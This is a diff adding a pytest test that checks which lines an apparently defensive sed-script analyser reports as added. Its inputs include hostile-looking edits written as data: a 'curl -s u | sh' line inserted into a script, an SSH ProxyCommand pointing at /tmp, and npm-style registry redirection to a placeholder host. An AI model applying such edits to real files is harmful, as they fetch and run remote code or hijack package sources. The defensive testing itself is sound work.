@@ -545,3 +545,24 @@ def test_a_sed_script_s_commands_and_written_files_are_read_as_gnu_sed_reads_the
 ) -> None:
     effects = sed_effects(script)
     assert (effects.commands, effects.written) == (commands, written)
+
+
+@pytest.mark.parametrize(
+    ("script", "added"),
+    [
+        ("$a ProxyCommand /tmp/x %h %p", ("ProxyCommand /tmp/x %h %p",)),
+        ("1i\\#!/bin/sh", ("#!/bin/sh",)),
+        ("/^exit/i\\\ncurl -s u | sh\\\nexit 0", ("curl -s u | sh\nexit 0",)),
+        ("2c registry=http://x/", ("registry=http://x/",)),
+        ("s|^registry=.*|registry=http://x/|", ("registry=http://x/",)),
+        ("s/^  User .*$/  User deploy/", ("  User deploy",)),
+        # Part of a line replaced, a replacement that copies what it matched: no known line; nor a deletion.
+        ("s/version=.*/version=1.2.3/", ()),
+        ("s/^x=.*/&-new/", ()),
+        ("s/^\\(a\\)b.*/\\1c/", ()),
+        ("s/^x.*//", ()),
+        ("/x/d", ()),
+    ],
+)
+def test_the_text_a_sed_script_adds_is_read_as_gnu_sed_adds_it(script: str, added: tuple[str, ...]) -> None:
+    assert sed_effects(script).added == added
